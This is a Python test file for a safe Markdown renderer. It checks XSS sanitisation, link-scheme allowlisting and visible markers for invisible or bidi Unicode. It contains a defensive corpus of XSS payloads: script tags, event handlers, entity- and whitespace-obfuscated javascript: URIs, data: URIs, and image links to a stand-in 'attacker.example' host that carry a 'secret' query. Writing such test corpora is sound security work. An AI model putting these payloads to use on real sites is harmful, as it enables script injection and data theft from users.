"""Tests for the safe Markdown renderer (llmwiki.render): pure Python, no database.

Covers reliability test plan items 12 (invisible/bidi Unicode made visible, input untouched)
and 17 (Markdown XSS corpus + Hypothesis allowlist property).
"""

from __future__ import annotations

import hashlib
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmwiki.render import render_inline, render_markdown

# The oracle keeps its own copy of the allowlist on purpose: widening the renderer's
# allowlist must be a deliberate change that also touches this file.
INLINE_TAGS = {"a", "em", "strong", "code", "del", "br", "span"}
BLOCK_TAGS = INLINE_TAGS | {
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "pre",
    "blockquote",
    "hr",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ALLOWED_ATTRS: dict[str, set[str]] = {
    "a": {"href", "title", "rel"},
    "span": {"class", "title"},
    "th": {"align"},
    "td": {"align"},
    **{f"h{n}": {"id"} for n in range(1, 7)},
}
SAFE_SCHEMES = {"http", "https", "mailto"}
REL = "nofollow noopener noreferrer"

# Browsers drop ASCII tab/newline anywhere in a URL and C0 controls/space at its ends, so
# "java\tscript:" is "javascript:". Strip all of them before reading the scheme.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
INVISIBLE = re.compile(
    "[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)


class _Collector(HTMLParser):
    """Record every tag, attribute and non-element construct in a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag not in BLOCK_TAGS:
            self.other.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"<![{data}]>")


def url_scheme(value: str) -> str | None:
    """Scheme a browser would see for an attribute value (None for relative URLs).

    ``HTMLParser`` has already decoded character references once, exactly as a browser
    does; decoding again would misread a literal ``&#x6A;`` in a relative URL as ``j``.
    """
    cleaned = _URL_NOISE.sub("", value)
    m = _SCHEME.match(cleaned)
    return m.group(1).lower() if m else None


def assert_safe(out: str, tags: set[str] = BLOCK_TAGS) -> None:
    """The allowlist oracle shared by the corpus, property and positive tests."""
    lowered = out.lower()
    assert "<script" not in lowered
    assert "<img" not in lowered
    assert "<!--" not in out
    parser = _Collector()
    parser.feed(out)
    parser.close()
    assert parser.other == [], parser.other
    for tag, attrs in parser.tags:
        assert tag in tags, f"tag <{tag}> not allowed in {out!r}"
        assert tag != "img"
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"duplicate attribute on <{tag}>"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} in {out!r}"
            assert name in ALLOWED_ATTRS.get(tag, set()), f"<{tag} {name}> in {out!r}"
            value = value or ""
            if name in ("href", "src"):
                scheme = url_scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r}"
            if name == "id":
                assert re.fullmatch(r"section-[a-z0-9-]+", value), value
            if name == "class":
                assert value == "invisible-char", value
            if name == "align":
                assert value in {"left", "center", "right"}
        if tag == "a":
            assert dict(attrs).get("rel") == REL


@pytest.mark.parametrize(
    "bad",
    [
        "<script>alert(1)</script>",
        '<img src="x">',
        "<p onclick=x>y</p>",
        "<svg></svg>",
        "<p style=x>y</p>",
        '<span class="evil">x</span>',
        "<!-- c -->",
        '<a href="https://ok.example">no rel</a>',
        f'<a href="&#106;avascript:alert(1)" rel="{REL}">x</a>',
        f'<a href="java&#9;script:alert(1)" rel="{REL}">x</a>',
        f'<a href=" \x01JAVASCRIPT:alert(1)" rel="{REL}">x</a>',
        f'<a href="data:text/html,x" rel="{REL}">x</a>',
        '<h2 id="Main">x</h2>',
        '<th align="justify">x</th>',
    ],
)
def test_oracle_rejects_known_bad_html(bad: str) -> None:
    # The checker itself must catch what it claims to: otherwise every test below is hollow.
    with pytest.raises(AssertionError):
        assert_safe(bad)


# --- XSS corpus (plan item 17) -------------------------------------------------------------

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](http://ok "title\\" onmouseover=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=//evil>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<p style="background:url(javascript:alert(1))">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "![](https://attacker.example/?q=secret)",
    "![x](data:image/png;base64,AAAA)",
    "![x](javascript:alert(1))",
    '![x](https://attacker.example/a.png "t")',
    "[![x](https://attacker.example/a.png)](https://ok.example/)",
    "![x][img]\n\n[img]: https://attacker.example/?q=secret",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<details open ontoggle=alert(1)>",
    "<!-- comment -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "```\n<script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\nx\n```',
    "`<img src=x onerror=alert(1)>`",
    "# <script>alert(1)</script>",
    "## x<img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "> <svg onload=alert(1)>\n> [x](javascript:alert(1))",
    "- [x](javascript:alert(1))\n  - ![a](https://attacker.example/p.gif)",
    "~~<script>alert(1)</script>~~",
    "**[x](javascript:alert(1))**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "[x](javascript\u200b:alert(1))",
]


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_xss_corpus_block(source: str) -> None:
    assert_safe(render_markdown(source))


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_xss_corpus_inline(source: str) -> None:
    assert_safe(render_inline(source), INLINE_TAGS)


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_dangerous_links_are_not_links(source: str) -> None:
    # Not just "no bad href": the link is not produced at all, the source shows as text.
    assert "<a" not in render_markdown(source)


def test_raw_html_is_shown_escaped_not_dropped() -> None:
    # A reviewer must see that someone tried to inject markup (and hidden comments).
    out = render_markdown('<script>alert(1)</script> <!-- approve me --> <b onclick="x">')
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "&lt;!-- approve me --&gt;" in out
    assert "onclick" in out  # as visible text only
    assert_safe(out)


def test_images_become_link_free_text() -> None:
    out = render_markdown("![the *chart*](https://attacker.example/?q=secret) and ![](x.png)")
    assert out == "<p>[image: the chart] and [image]</p>\n"
    assert "attacker" not in out


# --- Hypothesis property ------------------------------------------------------------------

FRAGMENTS = [
    "<script>",
    "</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>",
    "<iframe src=//evil>",
    ' style="x"',
    " onerror=",
    "javascript:",
    "JaVaScRiPt&#58;",
    "&#106;",
    "&#x3A;",
    "&colon;",
    "&#9;",
    "data:text/html,",
    "vbscript:",
    "http://a.example/",
    "mailto:a@b.example",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "<",
    ">",
    '"',
    "'",
    "`",
    "```",
    "~~",
    "*",
    "_",
    "&",
    "\\",
    "\n",
    "\n\n",
    "\t",
    "    ",
    "# ",
    "## ",
    "### ",
    "> ",
    "- ",
    "1. ",
    "|",
    "|---|",
    "[r]: ",
    "<!--",
    "-->",
    "\x00",
    "\u202e",
    "\u200b",
    "\ufeff",
    "\U000e0041",
    "\ufe0f",
]
markdownish = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=6)), max_size=40).map(
    "".join
)
any_text = st.one_of(st.text(), markdownish)


@settings(max_examples=300, deadline=None)
@given(any_text)
def test_property_block_output_satisfies_allowlist(source: str) -> None:
    out = render_markdown(source)
    assert_safe(out)
    assert not INVISIBLE.search(out)


@settings(max_examples=300, deadline=None)
@given(any_text)
def test_property_inline_output_satisfies_allowlist(source: str) -> None:
    out = render_inline(source)
    assert_safe(out, INLINE_TAGS)
    assert not INVISIBLE.search(out)


@settings(max_examples=300, deadline=None)
@given(any_text)
def test_property_deterministic(source: str) -> None:
    assert render_markdown(source) == render_markdown(source)
    assert render_inline(source) == render_inline(source)


# --- Positive rendering ---------------------------------------------------------------------


def test_headings_get_prefixed_unique_slug_ids() -> None:
    out = render_markdown(
        "# Title\n\n## Setup & *Install*\n\n## Setup & Install\n\n### Über uns\n\n"
        "#### Deep\n\n## Привет"
    )
    assert "<h1>Title</h1>" in out  # only h2/h3 are anchored
    assert '<h2 id="section-setup-install">Setup &amp; <em>Install</em></h2>' in out
    assert '<h2 id="section-setup-install-2">Setup &amp; Install</h2>' in out
    assert '<h3 id="section-uber-uns">Über uns</h3>' in out
    assert "<h4>Deep</h4>" in out
    # Non-Latin headings fall back to a stable short hash.
    assert re.search(r'<h2 id="section-[0-9a-f]{8}">Привет</h2>', out)
    assert_safe(out)


def test_heading_id_ignores_markup_and_invisible_chars() -> None:
    out = render_markdown('## `code` "q" \u202eevil\u200b <b>')
    assert 'id="section-code-q-evil-b"' in out
    assert_safe(out)


def test_lists_blockquote_rule_emphasis() -> None:
    out = render_markdown("- a\n- **b**\n\n1. one\n2. _two_\n\n> quote\n\n---\n\nx  \ny ~~z~~")
    assert "<ul>\n<li>a</li>\n<li><strong>b</strong></li>\n</ul>" in out
    assert "<ol>\n<li>one</li>\n<li><em>two</em></li>\n</ol>" in out
    assert "<blockquote>\n<p>quote</p>\n</blockquote>" in out
    assert "<hr>" in out
    assert "x<br>\ny <del>z</del>" in out
    assert_safe(out)


def test_code_fence_content_is_escaped_and_language_dropped() -> None:
    out = render_markdown('```html" onclick="x\n<script>alert("1")</script> & more\n```')
    assert out == ('<pre><code>&lt;script&gt;alert("1")&lt;/script&gt; &amp; more\n</code></pre>\n')
    assert render_markdown("    <b>indented</b>") == (
        "<pre><code>&lt;b&gt;indented&lt;/b&gt;\n</code></pre>\n"
    )
    assert render_markdown("`<i>`") == "<p><code>&lt;i&gt;</code></p>\n"


def test_table_alignment_uses_align_not_style() -> None:
    out = render_markdown("| l | r | c | n |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |")
    assert "style" not in out
    assert '<th align="left">l</th>' in out
    assert '<th align="right">r</th>' in out
    assert '<th align="center">c</th>' in out
    assert "<th>n</th>" in out
    assert '<td align="right">2</td>' in out
    assert "<thead>" in out and "<tbody>" in out
    assert_safe(out)


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[a](http://example.com/x?y=1&z=2)", "http://example.com/x?y=1&amp;z=2"),
        ("[a](https://example.com/)", "https://example.com/"),
        ("[a](mailto:team@example.com)", "mailto:team@example.com"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("[a](/projects/1/wiki/)", "/projects/1/wiki/"),
        ("[a](#section-setup)", "#section-setup"),
    ],
)
def test_safe_links_kept_with_rel(source: str, href: str) -> None:
    out = render_markdown(source)
    assert f'href="{href}"' in out
    assert f'rel="{REL}"' in out
    assert_safe(out)


def test_link_title_kept() -> None:
    out = render_markdown('[a](https://example.com "Read me")')
    assert out == (f'<p><a href="https://example.com" title="Read me" rel="{REL}">a</a></p>\n')


def test_bare_urls_are_not_linkified() -> None:
    assert "<a" not in render_markdown("see https://example.com and www.example.com")


# --- Invisible / bidi Unicode (plan item 12) ------------------------------------------------


@pytest.mark.parametrize(
    ("char", "name"),
    [
        ("\u202e", "RIGHT-TO-LEFT OVERRIDE"),
        ("\u200b", "ZERO WIDTH SPACE"),
        ("\U000e0041", "TAG LATIN CAPITAL LETTER A"),
        ("\u2066", "LEFT-TO-RIGHT ISOLATE"),
        ("\ufeff", "ZERO WIDTH NO-BREAK SPACE"),
    ],
)
def test_invisible_char_gets_visible_marker(char: str, name: str) -> None:
    cp = f"U+{ord(char):04X}"
    source = f"pay {char}alice"
    digest = hashlib.sha256(source.encode()).hexdigest()
    marker = f'<span class="invisible-char" title="{cp} {name}">⟨{cp}⟩</span>'
    block, inline = render_markdown(source), render_inline(source)
    assert block == f"<p>pay {marker}alice</p>\n"
    assert inline == f"pay {marker}alice"
    assert_safe(block)
    assert_safe(inline, INLINE_TAGS)
    # Rendering is a view: the stored text and its provenance hash are untouched.
    assert source == f"pay {char}alice"
    assert hashlib.sha256(source.encode()).hexdigest() == digest


def test_invisible_markers_in_code_headings_tables_and_titles() -> None:
    out = render_markdown(
        "## a\u202eb\n\n`x\u200by`\n\n```\nz\u2067\n```\n\n| h\u200b |\n|---|\n| c |\n\n"
        '[t](https://example.com "ti\u202etle")'
    )
    assert not INVISIBLE.search(out)
    assert out.count('class="invisible-char"') == 4
    assert 'title="ti⟨U+202E⟩tle"' in out  # attribute: text marker, no markup
    assert_safe(out)


def test_runs_collapse_and_tag_text_is_decoded() -> None:
    hidden = "".join(chr(0xE0000 + ord(c)) for c in 'approve <b>"me"')
    out = render_markdown(f"ok{hidden}\u200b\u200c end \U000e0001\U000e007f")
    # One marker per run; tag stretches spell out the smuggled ASCII (escaped), other
    # characters are listed by code point.
    assert (
        '<span class="invisible-char" title="17 invisible characters">'
        '⟨U+E0061…U+E0022 tag text: "approve &lt;b&gt;"me"" U+200B U+200C⟩</span>'
    ) in out
    assert '⟨U+E0001…U+E007F tag text: "\\x01\\x7f"⟩' in out
    assert out.count("<span") == 2
    assert_safe(out)


def test_huge_invisible_run_does_not_explode_output() -> None:
    out = render_markdown("\U000e0041" * 20_000)
    assert len(out) < 25_000
    assert_safe(out)


def test_variation_selector_runs_marked_single_emoji_presentation_kept() -> None:
    assert render_markdown("I \u2764\ufe0f it") == "<p>I \u2764\ufe0f it</p>\n"
    out = render_markdown("x\ufe0f\ufe01\ufe02")
    assert "⟨U+FE01 U+FE02⟩" in out
    assert_safe(out)


def test_lone_surrogates_do_not_crash() -> None:
    assert render_markdown("a\ud800b") == "<p>a\ufffdb</p>\n"
    assert render_inline("\ud83d\ude00") == "\U0001f600"


# --- Inline snippets ------------------------------------------------------------------------


def test_render_inline_has_no_block_elements() -> None:
    out = render_inline("# not a heading\n- not a list\n\n> no quote *em* [l](https://x.example)")
    assert out == (
        "# not a heading\n- not a list\n\n&gt; no quote <em>em</em> "
        f'<a href="https://x.example" rel="{REL}">l</a>'
    )
    assert_safe(out, INLINE_TAGS)


def test_render_inline_code_strike_image() -> None:
    out = render_inline("`<x>` ~~old~~ ![pic](https://attacker.example/p.png)")
    assert out == "<code>&lt;x&gt;</code> <del>old</del> [image: pic]"


# --- Determinism ----------------------------------------------------------------------------


def test_deterministic_bytes() -> None:
    doc = (
        "# T\n\n## Same\n\n## Same\n\n| a |\n|:-:|\n| \u202e |\n\n"
        "[x](https://example.com) ![i](https://a.example/i.png)\n"
    )
    first = render_markdown(doc).encode()
    for _ in range(5):
        assert render_markdown(doc).encode() == first
    # Heading id de-duplication state must not leak between calls.
    assert render_markdown("## Same") == '<h2 id="section-same">Same</h2>\n'
    assert render_markdown("## Same") == '<h2 id="section-same">Same</h2>\n'


# --- claim citations as links -----------------------------------------------------------


def _url(kind: str, pk: int) -> str:
    return f"/p/tidewater/{kind}s/{pk}/"


def test_claim_citations_link_the_claim_and_each_episode():
    html = render_markdown("- Staging runs PG 16. _(claim 3; evidence #12, #13)_\n", cite=_url)
    assert '<a href="/p/tidewater/claims/3/" rel="nofollow noopener noreferrer">claim 3</a>' in html
    for pk in (12, 13):
        assert (
            f'<a href="/p/tidewater/episodes/{pk}/" rel="nofollow noopener noreferrer">#{pk}</a>'
            in html
        )


def test_citations_are_plain_text_without_a_linker_or_inside_links():
    text = '- [see (claim 3; evidence #4)](https://example.com "(claim 5)") (claim 6)\n'
    assert "/claims/" not in render_markdown(text)
    html = render_markdown(text, cite=_url)
    assert html.count("<a ") == 2  # the author's link, and claim 6
    assert 'title="(claim 5)"' in html  # attributes are never rewritten
    assert "/claims/6/" in html and "/claims/3/" not in html and "/episodes/4/" not in html


def test_an_id_outside_a_citation_stays_text():
    html = render_markdown("- Ticket #42 is closed; see claim 7.\n", cite=_url)
    assert "<a " not in html
